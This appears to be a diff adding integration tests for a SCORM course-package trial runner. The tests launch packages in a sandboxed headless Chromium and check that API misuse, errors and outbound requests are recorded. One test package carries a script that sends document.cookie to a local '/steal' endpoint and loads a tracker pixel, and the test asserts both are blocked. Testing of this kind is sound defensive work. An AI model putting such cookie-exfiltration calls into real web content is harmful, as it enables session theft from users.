@@ -1,0 +1,130 @@
+import { spawnSync } from 'node:child_process'
+import { chmodSync, mkdtempSync, writeFileSync } from 'node:fs'
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { rm } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { trialHints } from '@portico/shared/rules/scorm/trial.ts'
+import { makeManifest } from '../../api/local/demo/scorm/make-manifest.ts'
+import { makePackage } from '../../api/local/demo/scorm/make-package.ts'
+import { makeZip } from '../../api/local/demo/scorm/make-zip.ts'
+import { importPackage } from '../../api/src/scorm/import/import-package.ts'
+import { runTrial } from '../../api/src/scorm/trial/run-trial.ts'
+import { createDiskStorage } from '../../api/src/storage/disk-storage.ts'
+import { storageKey } from '../../api/src/storage/storage-key.ts'
+import { findBrowser } from '../support/browser.ts'
+
+const folder = mkdtempSync(join(tmpdir(), 'portico-trial-'))
+const storage = createDiskStorage(join(folder, 'storage'))
+let elsewhere: Server
+const asked: string[] = []
+beforeAll(async () => {
+  elsewhere = createServer((request, response) => {
+    asked.push(request.url ?? '')
+    response.end()
+  })
+  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
+})
+afterAll(async () => {
+  elsewhere.close()
+  await rm(folder, { recursive: true, force: true })
+})
+
+/** Chromium keeps its sandbox for nobody who runs as root; there it runs as another, with its profile given to that one. */
+function browser(): string {
+  if (process.getuid?.() !== 0) return findBrowser()
+  const path = join(folder, 'chromium.sh')
+  writeFileSync(
+    path,
+    `#!/bin/sh
+for word in "$@"; do case "$word" in --user-data-dir=*) chown -R 65534:65534 "\${word#--user-data-dir=}";; --no-sandbox) exit 1;; esac; done
+exec setpriv --reuid=65534 --regid=65534 --clear-groups env HOME=/tmp ${findBrowser()} "$@"
+`,
+  )
+  chmodSync(path, 0o755)
+  return path
+}
+
+// Some containers give no process the namespaces that the sandbox needs.
+const hasSandbox =
+  spawnSync(browser(), [
+    '--headless=new',
+    `--user-data-dir=${mkdtempSync(join(tmpdir(), 'portico-probe-'))}`,
+    '--dump-dom',
+    'about:blank',
+  ]).status === 0
+
+const limits = { total_ms: 40_000, watched_ms: 2_000, memory_bytes: 512 * 1024 ** 2 }
+async function tried(zip: Buffer, change: Partial<typeof limits> = {}) {
+  const upload = storageKey('uploads/tried.zip')
+  await storage.put(upload, zip)
+  const done = await importPackage({ storage, upload })
+  if (!done.ok) throw new Error(done.code)
+  const [sco] = done.package.items
+  if (!sco) throw new Error('the package has no part')
+  const { sha256 } = done.package
+  return runTrial({ chromium_path: browser(), storage, sha256, sco, limits: { ...limits, ...change } })
+}
+const page = (script: string) =>
+  makeZip([
+    { name: 'imsmanifest.xml', data: makeManifest({ title: 'Tried' }) },
+    { name: 'index.html', data: `<!doctype html><title>x</title><script>${script}</script>` },
+  ])
+
+test.skipIf(!hasSandbox)(
+  'a trial launch sees what content asks of the API, and has nothing to say of a good package',
+  async () => {
+    const found = await tried(await makePackage())
+    expect(found).toMatchObject({ ended: 'ran', statuses: ['incomplete'], errors: [], elsewhere: [], refused: [] })
+    expect(found.calls).toMatchObject({ LMSInitialize: 1 })
+    expect(trialHints(found)).toEqual([])
+  },
+  90_000,
+)
+
+test.skipIf(!hasSandbox)(
+  'content that breaks, sets what is not allowed and asks elsewhere is described in hints, and reaches nothing but its own host',
+  async () => {
+    const other = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/steal`
+    const found = await tried(
+      await page(`
+      const api = parent.API
+      api.LMSInitialize('')
+      api.LMSSetValue('cmi.core.score.raw', '140')
+      api.LMSSetValue('cmi.suspend_data', 'x'.repeat(5000))
+      fetch('${other}?' + document.cookie).catch(() => {})
+      fetch('https://tracker.example/pixel.gif').catch(() => {})
+      throw new Error('media list is empty')`),
+    )
+    expect(found).toMatchObject({ ended: 'ran', suspend_characters: 5_000, refused: ['cmi.core.score.raw'] })
+    expect(found.errors.join()).toContain('media list is empty')
+    expect(found.elsewhere).toEqual(expect.arrayContaining([other, 'https://tracker.example/pixel.gif']))
+    expect(asked).toEqual([])
+    expect(trialHints(found)).toHaveLength(4)
+  },
+  90_000,
+)
+
+test.skipIf(!hasSandbox)(
+  'a trial ends at its limits, and a browser that does not start is no fault of the package',
+  async () => {
+    const zip = await page(`parent.API.LMSInitialize('')`)
+    expect(await tried(zip, { memory_bytes: 1024 ** 2 })).toMatchObject({ ended: 'too_much_memory' })
+    const endless = await page(`document.write('<img src="slow.png">'); for (;;) {}`)
+    expect((await tried(endless, { total_ms: 6_000 })).ended).toMatch(/^(?:too_long|too_much_memory)$/)
+    const upload = storageKey('uploads/tried.zip')
+    await storage.put(upload, zip)
+    const sco = { title: 'Tried', launch: 'index.html', launch_data: null, mastery_score: null }
+    const found = await runTrial({
+      chromium_path: '/nonexistent/chromium',
+      storage,
+      sha256: 'a'.repeat(64),
+      sco,
+      limits,
+    })
+    expect([found.ended, trialHints(found)]).toEqual(['not_run', []])
+  },
+  120_000,
+)
